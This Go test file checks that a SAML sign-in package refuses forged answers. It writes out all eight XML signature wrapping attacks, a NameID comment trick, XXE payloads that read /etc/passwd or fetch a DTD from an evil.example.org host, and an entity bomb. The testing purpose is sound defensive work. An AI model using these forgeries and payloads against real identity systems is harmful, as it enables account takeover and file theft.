package samlsp

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/beevik/etree"
	"github.com/crewjam/saml"
	dsig "github.com/russellhaering/goxmldsig"

	"github.com/octavo-books/octavo/domain/identity"
	"github.com/octavo-books/octavo/test/must"
	"github.com/octavo-books/octavo/test/samlidp"
)

// victim is whom an attacker would like to be.
const victim = "victim-1"

// forged returns a copy of an assertion or an answer that names the victim and is not signed.
func forged(of *etree.Element) *etree.Element {
	made := of.Copy()
	made.CreateAttr("ID", "forged")
	for _, name := range made.FindElements(".//NameID") {
		name.SetText(victim)
	}
	for _, signature := range made.FindElements(".//Signature") {
		signature.Parent().RemoveChild(signature)
	}
	return made
}

// taken removes a child and returns it.
func taken(from *etree.Element, tag string) *etree.Element {
	child := from.SelectElement(tag)
	from.RemoveChild(child)
	return child
}

// replace puts made where old was.
func replace(old, made *etree.Element) {
	at := old.Index()
	parent := old.Parent()
	parent.RemoveChildAt(at)
	parent.InsertChildAt(at, made)
}

// wrappings are the eight forms of signature wrapping, by their usual numbers: the signature stays
// valid, and something else is there to be read.
var wrappings = map[string]struct {
	response bool // the answer is signed, not only its assertion
	wrap     func(root *etree.Element) *etree.Element
}{
	"XSW1": {true, func(root *etree.Element) *etree.Element {
		made, original := forged(root), root.Copy()
		signature := taken(original, "Signature")
		signature.AddChild(original)
		made.AddChild(signature)
		return made
	}},
	"XSW2": {true, func(root *etree.Element) *etree.Element {
		made, original := forged(root), root.Copy()
		signature := taken(original, "Signature")
		made.AddChild(original)
		made.AddChild(signature)
		return made
	}},
	"XSW3": {false, func(root *etree.Element) *etree.Element {
		original := root.SelectElement("Assertion")
		root.InsertChildAt(original.Index(), forged(original))
		return root
	}},
	"XSW4": {false, func(root *etree.Element) *etree.Element {
		original := root.SelectElement("Assertion")
		made := forged(original)
		replace(original, made)
		made.AddChild(original)
		return root
	}},
	"XSW5": {false, func(root *etree.Element) *etree.Element {
		original := root.SelectElement("Assertion")
		made := forged(original)
		replace(original, made)
		made.AddChild(taken(original, "Signature"))
		root.AddChild(original)
		return root
	}},
	"XSW6": {false, func(root *etree.Element) *etree.Element {
		original := root.SelectElement("Assertion")
		made := forged(original)
		replace(original, made)
		signature := taken(original, "Signature")
		made.AddChild(signature)
		signature.AddChild(original)
		return root
	}},
	"XSW7": {false, func(root *etree.Element) *etree.Element {
		original := root.SelectElement("Assertion")
		extensions := etree.NewElement("samlp:Extensions")
		root.InsertChildAt(original.Index(), extensions)
		extensions.AddChild(forged(original))
		return root
	}},
	"XSW8": {false, func(root *etree.Element) *etree.Element {
		original := root.SelectElement("Assertion")
		made := forged(original)
		replace(original, made)
		signature := taken(original, "Signature")
		made.AddChild(signature)
		object := etree.NewElement("ds:Object")
		object.CreateAttr("xmlns:ds", dsig.Namespace)
		signature.AddChild(object)
		object.AddChild(original)
		return root
	}},
}

// Neither we nor the library alone may believe one of them.
func TestAWrappedSignatureIsRefused(t *testing.T) {
	for name, attack := range wrappings {
		w := newParty(t)
		a := w.answer()
		a.Response = attack.response
		document := w.idp.Document(a)
		document.SetRoot(attack.wrap(document.Root()))
		text := must.Get(document.WriteToBytes())(t)
		if !strings.Contains(string(text), victim) || !strings.Contains(string(text), "ann-4711") {
			t.Fatalf("%s is no wrapping: %s", name, text)
		}
		if c, err := w.redeem(t, base64.StdEncoding.EncodeToString(text)); !is(err, identity.ErrAnswerInvalid) || !strings.Contains(err.Error(), "form that is not accepted") {
			t.Errorf("%s: %+v, %v", name, c, err)
		}
		s := must.Get(w.providers["campus"].find(t.Context(), ""))(t)
		read, err := s.ParseXMLResponse(text, []string{requestID(w.asked)}, s.AcsURL)
		if err == nil && read.Subject.NameID.Value != "ann-4711" {
			t.Errorf("the library believes %s: %+v", name, read)
		}
	}
}

// attacks are answers that no provider has made for this person, browser and service; cause is what
// the log says.
var attacks = map[string]struct {
	change func(w *party, a *samlidp.Answer)
	cause  string
}{
	"no signature at all": {func(_ *party, a *samlidp.Answer) { a.Bare = true }, "ignature"},
	"an assertion without a signature in a signed answer": {func(_ *party, a *samlidp.Answer) { a.Bare, a.Response = true, true }, "the assertion itself is not signed"},
	"an encrypted assertion without a signature": {func(w *party, a *samlidp.Answer) {
		a.Bare, a.Encrypt = true, w.ownCertificate()
	}, "ignature"},
	"an answer with a broken signature around a good assertion": {func(_ *party, a *samlidp.Answer) {
		a.Response, a.Break = true, func(e *etree.Element) { e.CreateAttr("Consent", "urn:none") }
	}, "ignature"},
	"a changed assertion":    {func(_ *party, a *samlidp.Answer) { a.Break = rename }, "ignature"},
	"a key of somebody else": {func(w *party, _ *samlidp.Answer) { w.idp = samlidp.New(w.t, w.idp.EntityID, 2) }, "ignature"},
	"another issuer":         {func(w *party, _ *samlidp.Answer) { w.idp.EntityID = "https://evil.example.org" }, "ssuer"},
	"another audience":       {func(_ *party, a *samlidp.Answer) { a.Service = here + "/auth/saml/other/metadata" }, "udience"},
	"no audience": {func(_ *party, a *samlidp.Answer) {
		a.Change = func(m *saml.Assertion) { m.Conditions.AudienceRestrictions = nil }
	}, "udience"},
	"another destination": {func(_ *party, a *samlidp.Answer) {
		a.Shape = func(r *saml.Response) { r.Destination = here + "/auth/saml/other/acs" }
	}, "Destination"},
	"another recipient": {func(_ *party, a *samlidp.Answer) {
		a.Change = func(m *saml.Assertion) { confirmation(m).Recipient = here + "/auth/saml/other/acs" }
	}, "Recipient"},
	"no recipient": {func(_ *party, a *samlidp.Answer) {
		a.Change = func(m *saml.Assertion) { confirmation(m).Recipient = "" }
	}, "Recipient"},
	"another request": {func(_ *party, a *samlidp.Answer) { a.RequestID = "id-other" }, "InResponseTo"},
	"an assertion of another request in an answer to this one": {func(_ *party, a *samlidp.Answer) {
		a.Change = func(m *saml.Assertion) { confirmation(m).InResponseTo = "id-other" }
	}, "request ID"},
	"an answer that nobody asked for": {func(_ *party, a *samlidp.Answer) {
		a.Change, a.Shape = func(m *saml.Assertion) { confirmation(m).InResponseTo = "" }, func(r *saml.Response) { r.InResponseTo = "" }
	}, "InResponseTo"},
	"an answer of an hour ago":     {func(_ *party, a *samlidp.Answer) { a.Now = a.Now.Add(-time.Hour) }, "expired"},
	"an answer of an hour to come": {func(_ *party, a *samlidp.Answer) { a.Now = a.Now.Add(time.Hour) }, "in the future"},
	"a confirmation that has expired": {func(w *party, a *samlidp.Answer) {
		a.Change = func(m *saml.Assertion) { confirmation(m).NotOnOrAfter = w.clock.Now().Add(-4 * time.Minute) }
	}, "expired"},
	"a confirmation without an end": {func(_ *party, a *samlidp.Answer) {
		a.Change = func(m *saml.Assertion) { confirmation(m).NotOnOrAfter = time.Time{} }
	}, "expired"},
	"conditions that have expired": {func(w *party, a *samlidp.Answer) {
		a.Change = func(m *saml.Assertion) { m.Conditions.NotOnOrAfter = w.clock.Now().Add(-4 * time.Minute) }
	}, "expired"},
	"conditions that are not yet so": {func(w *party, a *samlidp.Answer) {
		a.Change = func(m *saml.Assertion) { m.Conditions.NotBefore = w.clock.Now().Add(4 * time.Minute) }
	}, "not yet valid"},
	"another way of confirmation": {func(_ *party, a *samlidp.Answer) {
		a.Change = func(m *saml.Assertion) {
			m.Subject.SubjectConfirmations[0].Method = "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"
		}
	}, "bearer"},
	"no statement of a sign-in":  {func(_ *party, a *samlidp.Answer) { a.Change = func(m *saml.Assertion) { m.AuthnStatements = nil } }, "AuthnStatement"},
	"no issuer in the assertion": {func(_ *party, a *samlidp.Answer) { a.Edit = func(e *etree.Element) { taken(e, "Issuer") } }, "ssuer"},
	"a NameID of another namespace": {func(_ *party, a *samlidp.Answer) {
		a.Edit = func(e *etree.Element) {
			name := e.FindElement("./Subject/NameID")
			name.Space = "x"
			name.CreateAttr("xmlns:x", "urn:example:x")
		}
	}, "NameID"},
	"signatures with SHA-1": {func(_ *party, a *samlidp.Answer) { a.Method = dsig.RSASHA1SignatureMethod }, "SHA-1"},
	"a comment in the NameID": {func(_ *party, a *samlidp.Answer) {
		a.NameID.Value = victim + ".evil.org"
		a.Break = func(e *etree.Element) {
			name := e.FindElement("./Assertion/Subject/NameID")
			name.SetText("")
			name.CreateText(victim)
			name.CreateComment("x")
			name.CreateText(".evil.org")
		}
	}, "comment"},
	"a processing instruction": {func(_ *party, a *samlidp.Answer) { a.Break = func(e *etree.Element) { e.CreateProcInst("x", "y") } }, "processing instruction"},
	"an ID given twice": {func(_ *party, a *samlidp.Answer) {
		a.Break = func(e *etree.Element) {
			e.CreateElement("samlp:Extensions").CreateAttr("ID", e.SelectElement("Assertion").SelectAttrValue("ID", ""))
		}
	}, "is there twice"},
	"an XSLT transform": {func(_ *party, a *samlidp.Answer) {
		a.Break = func(e *etree.Element) {
			e.FindElement("//Transform").CreateAttr("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
		}
	}, "the transform"},
	"an XPath transform": {func(_ *party, a *samlidp.Answer) {
		a.Break = func(e *etree.Element) {
			e.FindElement("//Transform").CreateAttr("Algorithm", "http://www.w3.org/TR/1999/REC-xpath-19991116")
		}
	}, "the transform"},
	"a signature of the whole document": {func(_ *party, a *samlidp.Answer) {
		a.Break = func(e *etree.Element) { e.FindElement("//Reference").CreateAttr("URI", "") }
	}, "ignature"},
	"a second assertion": {func(w *party, a *samlidp.Answer) {
		a.Break = func(e *etree.Element) { e.AddChild(forged(e.SelectElement("Assertion"))) }
	}, "more than one assertion"},
}

func rename(e *etree.Element) { e.FindElement("./Assertion/Subject/NameID").SetText(victim) }

func confirmation(a *saml.Assertion) *saml.SubjectConfirmationData {
	return a.Subject.SubjectConfirmations[0].SubjectConfirmationData
}

func TestAnAnswerOfAnAttackerIsRefused(t *testing.T) {
	for name, attack := range attacks {
		t.Run(name, func(t *testing.T) {
			w := newParty(t)
			a := w.answer()
			attack.change(w, &a)
			c, err := w.redeem(t, w.idp.Encode(a))
			if !is(err, identity.ErrAnswerInvalid) || !strings.Contains(err.Error(), attack.cause) {
				t.Errorf("%+v, %v; want %q", c, err, attack.cause)
			}
		})
	}
}

// texts are answers that are attacks already as texts.
var texts = map[string]struct{ text, cause string }{
	"nothing":                           {"", "0 bytes"},
	"no Base64":                         {"<>", "Base64"},
	"no XML":                            {encode("hello"), "form that is not accepted"},
	"half of one":                       {encode("<samlp:Response xmlns:samlp=\"" + protocol + "\"><a>"), "unexpected EOF"},
	"an external entity":                {encode(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="` + protocol + `">&x;</samlp:Response>`), "document type"},
	"an external entity in a parameter": {encode(`<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example.org/x.dtd">%x;]><samlp:Response xmlns:samlp="` + protocol + `"/>`), "document type"},
	"an entity bomb":                    {encode(`<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]><samlp:Response xmlns:samlp="` + protocol + `">&c;</samlp:Response>`), "document type"},
	"an unknown entity":                 {encode(`<samlp:Response xmlns:samlp="` + protocol + `">&c;</samlp:Response>`), "entity"},
	"another encoding":                  {encode(`<?xml version="1.0" encoding="UTF-16"?><samlp:Response xmlns:samlp="` + protocol + `"/>`), "encoding"},
	"a deep one":                        {encode(`<samlp:Response xmlns:samlp="` + protocol + `">` + strings.Repeat("<a>", 100)), "deep"},
	"many elements":                     {encode(`<samlp:Response xmlns:samlp="` + protocol + `">` + strings.Repeat("<a/>", maxElements)), "elements"},
	"many attributes":                   {encode(`<samlp:Response xmlns:samlp="` + protocol + `" ` + manyAttributes() + `/>`), "attributes"},
	"a huge one":                        {strings.Repeat("A", MaxAnswer+1), "bytes"},
	"a logout request":                  {encode(`<samlp:LogoutRequest xmlns:samlp="` + protocol + `"/>`), "not where one belongs"},
	"a prefix of nobody":                {encode(`<samlp:Response/>`), "not declared"},
	"an attribute twice":                {encode(`<samlp:Response xmlns:samlp="` + protocol + `" ID="a" ID="b"/>`), "given twice"},
}

func encode(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }

func manyAttributes() string {
	var b strings.Builder
	for i := range 100 {
		fmt.Fprintf(&b, `a%d="" `, i)
	}
	return b.String()
}

func TestATextThatIsAnAttackIsRefused(t *testing.T) {
	w := newParty(t)
	for name, c := range texts {
		if got, err := w.redeem(t, c.text); !is(err, identity.ErrAnswerInvalid) || !strings.Contains(err.Error(), c.cause) {
			t.Errorf("%s: %+v, %v; want %q", name, got, err, c.cause)
		}
	}
}

// What was encrypted for us is text of a stranger, too.
func TestAnEncryptedAssertionIsCheckedLikeAPlainOne(t *testing.T) {
	for name, edit := range map[string]func(e *etree.Element){
		"changed":   func(e *etree.Element) { e.FindElement("./Subject/NameID").SetText(victim) },
		"wrapped":   func(e *etree.Element) { e.AddChild(forged(e)) },
		"commented": func(e *etree.Element) { e.FindElement("./Subject/NameID").CreateComment("x") },
	} {
		w := newParty(t)
		a := w.answer()
		assertion := w.idp.Document(a).Root().SelectElement("Assertion").Copy()
		edit(assertion)
		a.Shape = nil
		code := w.idp.EncodeEncrypted(a, assertion, w.ownCertificate())
		if c, err := w.redeem(t, code); !is(err, identity.ErrAnswerInvalid) {
			t.Errorf("%s: %+v, %v", name, c, err)
		}
	}
}

func FuzzAnswers(f *testing.F) {
	w := newParty(f)
	a := w.answer()
	good := must.Get(w.idp.Document(a).WriteToBytes())(f)
	f.Add(good)
	a.Response = true
	f.Add(must.Get(w.idp.Document(a).WriteToBytes())(f))
	a.Response, a.Encrypt = false, w.ownCertificate()
	f.Add(must.Get(w.idp.Document(a).WriteToBytes())(f))
	for _, attack := range wrappings {
		a = w.answer()
		a.Response = attack.response
		document := w.idp.Document(a)
		document.SetRoot(attack.wrap(document.Root()))
		f.Add(must.Get(document.WriteToBytes())(f))
	}
	for _, one := range texts {
		if text, err := base64.StdEncoding.DecodeString(one.text); err == nil && len(text) < 10_000 {
			f.Add(text)
		}
	}
	f.Fuzz(func(t *testing.T, document []byte) {
		c, err := w.RedeemCode(t.Context(), "campus", w.asked, identity.Answer{Code: base64.StdEncoding.EncodeToString(document)})
		if err == nil && (c.Subject != "ann-4711" || c.Email != "ann@example.edu" || c.Name != "Ann Author") {
			t.Errorf("%q signs %+v in", document, c)
		}
	})
}
